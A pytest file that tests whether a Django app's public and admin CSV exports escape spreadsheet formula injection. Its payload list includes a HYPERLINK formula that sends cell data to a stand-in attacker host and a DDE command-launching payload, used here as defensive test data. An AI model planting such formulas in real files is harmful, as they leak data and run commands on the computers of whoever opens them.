"""CSV exports, public and admin, never hand a spreadsheet a formula: a cell that
would start one (=, +, -, @, a tab or a carriage return) starts with a quote."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import make_city

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def public_export(client):
    return rows_of(client.get(reverse("tracker:city-list"), {"format": "csv"}))


def admin_export(client, city):
    url = reverse("admin:tracker_city_changelist")
    data = {"action": "export_csv", "_selected_action": [str(city.pk)]}
    return rows_of(client.post(url, data))


def column(rows, header):
    at = rows[0].index(header)
    return [row[at] for row in rows[1:]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_both_exports_escape_a_formula(client, clients, formula):
    city = make_city(name=formula)
    assert column(public_export(client), "City") == ["'" + formula]
    assert column(admin_export(clients["viewer"], city), "Name") == ["'" + formula]


def test_plain_values_and_numbers_are_exported_as_they_are(client, clients):
    city = make_city(name="Phnom Penh", latitude=-11.5, longitude=104.9)
    rows = admin_export(clients["viewer"], city)
    assert column(rows, "Name") == ["Phnom Penh"]
    # A number is no formula: a negative one keeps its sign, unquoted.
    assert column(rows, "Latitude") == ["-11.50000"]
    assert column(public_export(client), "City") == ["Phnom Penh"]
